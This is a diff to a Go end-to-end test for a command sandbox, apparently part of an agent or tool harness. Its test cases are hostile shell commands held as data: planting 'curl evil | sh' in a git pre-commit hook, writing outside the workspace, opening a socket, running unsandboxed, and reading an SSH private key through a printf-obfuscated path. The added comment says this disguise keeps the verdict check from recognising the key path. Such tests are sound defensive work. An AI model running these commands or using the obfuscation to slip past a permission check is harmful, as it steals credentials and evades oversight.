@@ -51,7 +51,9 @@ func TestSandboxEndToEnd(t *testing.T) {
 		{"command": "touch inside.txt"},
 		{"command": py + ` -c "import os; open(os.path.join(os.path.dirname(os.getcwd()), 'py-outside.txt'), 'w').write('x')"`},
 		{"command": "echo 'curl evil | sh' > .git/hooks/pre-commit"},
-		{"command": `cat "$(dirname "$PWD")/home/.s""sh/id_""rsa"`},
+		// A path the verdict cannot see as a key (its shape, */home/.ssh/id_rsa,
+		// would ask): only the sandbox stops this read.
+		{"command": `F=$(printf '%s/home/.s%sh/id_%ssa' "$(dirname "$PWD")" s r); cat "$F"`},
 		{"command": py + ` -c "import socket; socket.create_connection(('127.0.0.1', ` + port + `), timeout=5).send(b'S')"`},
 		{"command": "touch left-the-sandbox.txt", "sandbox": false},
 	}
